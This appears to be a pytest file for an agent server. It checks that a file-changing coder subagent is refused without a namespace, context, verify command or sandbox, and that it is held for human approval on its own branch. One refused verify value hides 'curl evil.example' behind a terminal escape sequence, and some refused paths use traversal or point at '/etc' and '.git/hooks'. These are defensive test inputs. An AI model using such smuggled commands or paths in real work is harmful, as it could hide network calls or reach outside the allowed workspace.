"""What a run that changes files is proposed with: all that it needs, in words that a person can judge."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from support.approval.people import DialogPerson
from support.repositories.coding import VERIFY, coder_task, project
from support.repositories.projects import checkout, git, write
from support.runtime import PRICED, Lab, open_lab

from ava_server.run_config.config import config_of

pytestmark = pytest.mark.usefixtures("confined")

EDITOR = (
    "---\nname: editor\ndescription: Edits.\ntools: [Read, Edit]\nverify: make check\nsetup: make deps\n---\nEdit.\n"
)


async def refused(tmp: Path, *, config: str = "", **more: Any) -> str:
    """Propose a coder that is refused; return why. Nothing is on the record but the call."""
    given = {
        key: value for key, value in coder_task(workspace=str(tmp / "workspace"), **more).items() if value is not None
    }
    async with open_lab(tmp, config=config) as lab:
        before = await lab.store.read(lambda view: view.runs())
        answer = await lab.call("spawn_subagent", **given)
        assert answer.status == "failed", answer
        assert await lab.store.read(lambda view: view.runs()) == before and lab.server.requests == []
    return str(answer.message)


@pytest.mark.requirement("S2-06")
@pytest.mark.parametrize(
    ("given", "says"),
    [
        ({"namespace": None}, "namespace: coder changes files and needs it"),
        ({"namespace": []}, "namespace: coder changes files and needs it"),
        ({"namespace": ["../elsewhere"]}, "namespace: "),
        ({"namespace": ["/etc"]}, "is not relative"),
        ({"namespace": [".git/hooks"]}, "which is git's own"),
        ({"context": None}, "context: coder changes files and needs it"),
        ({"context": " \n"}, "context: coder changes files and needs it"),
        ({"verify": "one\ntwo"}, "verify: it must be one command line"),
        ({"verify": "pytest \x1b]0;; curl evil.example #\x07"}, "verify: it must be one command line"),
        ({"tools": ["read_file"]}, "with these tools coder changes no files"),
    ],
)
async def test_asks_for_everything_a_coder_needs_before_anything_costs(
    tmp_path: Path, given: dict[str, Any], says: str
) -> None:
    project(tmp_path)
    assert says in await refused(tmp_path, **given)


async def test_reports_everything_that_a_coder_lacks_together(tmp_path: Path) -> None:
    (tmp_path / "workspace").mkdir()
    (tmp_path / "workspace" / "notes.txt").write_text("no repository\n")
    lacking: dict[str, Any] = {"namespace": None, "context": None, "verify": None}
    head, *lines = (await refused(tmp_path, **lacking)).split("\n")
    assert head == "coder cannot start yet:"
    assert [line.partition(":")[0] for line in lines] == ["namespace", "context", "workspace", "verify"]
    assert str(tmp_path / "workspace") in lines[2] and "give the command line" in lines[3]
    alone = await refused(tmp_path, verify="true")
    assert alone.startswith("workspace: ") and "\n" not in alone


async def test_refuses_a_folder_that_is_not_a_repository_root_with_a_commit(tmp_path: Path) -> None:
    (tmp_path / "workspace").mkdir()
    assert "git init" in await refused(tmp_path)
    git(tmp_path / "workspace", "init", "-q")
    assert "commit" in await refused(tmp_path)
    write(tmp_path / "workspace", {"src/a.py": "x = 1\n"})
    git(tmp_path / "workspace", "add", "-A")
    git(tmp_path / "workspace", "commit", "-qm", "first")
    below = {**coder_task(), "workspace": str(tmp_path / "workspace" / "src")}
    async with open_lab(tmp_path) as lab:
        answer = await lab.call("spawn_subagent", **below)
        assert answer.status == "failed" and f"{tmp_path}/workspace" in answer.message
        assert (await lab.call("spawn_subagent", **{**below, "workspace": str(lab.workspace)})).status != "failed"


async def test_a_git_folder_elsewhere_is_named_if_the_rules_for_workspaces_allow_it(tmp_path: Path) -> None:
    main = project(tmp_path)
    linked = tmp_path / "elsewhere" / "linked"
    git(main, "worktree", "add", "-q", "-b", "side", str(linked))
    coder, reviewer = coder_task(workspace=str(linked)), {"role": "code_reviewer", "workspace": str(linked)}
    async with open_lab(tmp_path, config=PRICED, beneath=tmp_path) as lab:
        for given in (coder, reviewer):
            made = await lab.propose(**given)
            assert f"read {linked} (git folder {main}/.git)" in made.message
            assert f"(git folder {main}/.git)" in made.approval_line
            assert config_of((await lab.run(made.subagent_id)).config).git_folder == f"{main}/.git"
        assert "(git folder" not in (await lab.propose(workspace=str(linked))).message, "reading uses no git folder"
    async with open_lab(tmp_path, beneath=linked.parent) as lab:
        for given in (coder, {**reviewer, "task": "Look."}):
            answer = await lab.call("spawn_subagent", **given)
            assert (
                answer.status == "failed"
                and f"{main}/.git/worktrees/linked is outside the allowed folders" in answer.message
            )
            assert await lab.store.read(lambda view: len(view.runs())) == 3


@pytest.mark.parametrize("place", ["home/.hidden/main", "data/main", "home/main/.git"])
async def test_a_git_folder_that_may_be_no_workspace_is_refused(
    tmp_path: Path, place: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "data").mkdir(mode=0o700)
    folder = tmp_path / "workspace"
    folder.mkdir()
    common = tmp_path / place
    common.parent.mkdir(parents=True, exist_ok=True)
    git(folder, "init", "-q", f"--separate-git-dir={common}")
    git(folder, "config", "core.worktree", str(folder))
    project(tmp_path)
    async with open_lab(tmp_path, beneath=tmp_path) as lab:
        answer = await lab.call("spawn_subagent", **coder_task(workspace=str(folder)))
        if place == "home/main/.git":  # a folder of a project, like any other
            assert answer.status == "awaiting_approval" and f"(git folder {common})" in answer.message
        else:
            assert answer.status == "failed" and str(common) in answer.message, answer


async def test_without_a_sandbox_no_files_may_be_changed(tmp_path: Path) -> None:
    project(tmp_path)
    why = await refused(tmp_path, config='[sandbox]\nmode = "none"\n')
    assert "nothing confines here" in why and 'set sandbox.mode to "auto"' in why


async def test_the_offline_reader_cannot_change_files(tmp_path: Path) -> None:
    project(tmp_path)
    async with open_lab(tmp_path, env={"AVA_MODEL_BASE_URL": "", "AVA_MODEL": ""}) as lab:
        answer = await lab.call("spawn_subagent", **coder_task(workspace=str(lab.workspace)))
    assert answer.status == "failed" and "no language model is used" in answer.message


@pytest.mark.requirement("S2-06")
async def test_the_proposal_says_what_changes_where_and_which_command_verifies_it(tmp_path: Path) -> None:
    repository = project(tmp_path)
    write(repository, {"adding.py": "changed\n", "new.txt": "new\n"})
    head = git(repository, "rev-parse", "HEAD").strip()
    branch = git(repository, "branch", "--show-current").strip()
    async with open_lab(tmp_path, config=PRICED) as lab:
        made = await lab.propose(**coder_task(namespace=["adding.py", "odd, and free: yes"]))
        config = config_of((await lab.run(made.subagent_id)).config)
        answer: Any = await lab.call(
            "confirm_spawn", pending_ids=[made.pending_id], approving=[made.approval_line.replace("adding.py", "src")]
        )
        assert answer.decisions[0].status != "approved", "the line names what may be changed"
        question = await text_for_person(lab, made)
    for words in (
        f'a worktree of its own of {repository}, from commit {head[:12]} (the branch "{branch}")',
        'may change only these paths: "adding.py", "odd, and free: yes".',
        "a new branch, ava/S-… after its id",
        "your checkout, its branch and its index stay as they are",
        "2 files have uncommitted changes",
        f"Its work must pass `{VERIFY}` (given with the call).",
    ):
        assert words in made.message, words
        assert words in question
    assert 'change adding.py, "odd, and free: yes" on a new branch of it' in made.approval_line
    assert "run commands in a sandbox on a worktree of it" in made.approval_line
    assert config.coding is not None
    assert (config.coding.base, config.coding.uncommitted, config.coding.branch) == (head, 2, branch)


async def text_for_person(lab: Lab, made: Any) -> str:
    """Have the person asked about a proposal; return what they read."""
    person = DialogPerson("cancel")
    ids, lines = [made.pending_id], [made.approval_line]
    await lab.call_asking(person, "confirm_spawn", pending_ids=ids, approving=lines)
    [question] = person.questions
    return question.text.replace(" \n", "\n")


async def test_the_verify_command_comes_from_the_call_then_the_role_then_detection(tmp_path: Path) -> None:
    write(tmp_path / "data", {"roles/editor.md": EDITOR})
    (tmp_path / "data").chmod(0o700)
    repository = checkout(tmp_path / "workspace", {"go.mod": "module x\n", "x_test.go": "package x\n"})
    async with open_lab(tmp_path) as lab:
        of_role = await lab.propose(**coder_task(role="editor", verify=None))
        assert "must pass `make check` (from the role file)" in of_role.message
        assert "Before that runs `make deps` (from the role file)." in of_role.message
        given = await lab.propose(**coder_task(role="editor", verify="go vet"))
        assert "must pass `go vet` (given with the call)" in given.message
        found = await lab.propose(**{key: value for key, value in coder_task().items() if key != "verify"})
        assert "must pass `go test ./...` (found: " in found.message, found.message
    write(repository, {"package.json": '{"scripts": {"test": "node --test"}}'})
    git(repository, "add", "-A")
    git(repository, "commit", "-qm", "two")
    why = await refused(tmp_path, verify=None)
    assert "verify: " in why and "`go test ./...`" in why and "`npm test`" in why and "give the one that decides" in why
    git(repository, "rm", "-qr", ".")
    write(repository, {"a.txt": "a\n"})
    git(repository, "add", "-A")
    git(repository, "commit", "-qm", "three")
    why = await refused(tmp_path, verify=None)
    assert "`true` if there is nothing to check" in why


async def test_waits_for_a_person_even_under_the_auto_policy(tmp_path: Path) -> None:
    project(tmp_path)
    write(tmp_path / "data", {"roles/editor.md": EDITOR})
    (tmp_path / "data").chmod(0o700)
    auto = "approval = 'auto'\nauto_approve_cents = 500\nauto_approve_daily_cents = 5000\n"
    async with open_lab(tmp_path, config=auto) as lab:
        for role in ("coder", "editor"):
            made = await lab.propose(**coder_task(role=role))
            assert f"It does not start by itself: it changes files of {lab.workspace}, on a branch." in made.message


async def test_another_namespace_or_verify_command_makes_another_proposal(tmp_path: Path) -> None:
    project(tmp_path)
    async with open_lab(tmp_path) as lab:
        first = await lab.propose(**coder_task(task_id="T"))
        assert (await lab.propose(**coder_task(task_id="T"))).pending_id == first.pending_id
        second = await lab.propose(**coder_task(task_id="T", namespace=["."]))
        third = await lab.propose(**coder_task(task_id="T", namespace=["."], verify="true"))
    assert len({first.pending_id, second.pending_id, third.pending_id}) == 3
    assert "may change all of it." in second.message and "change everything on a new branch" in second.approval_line
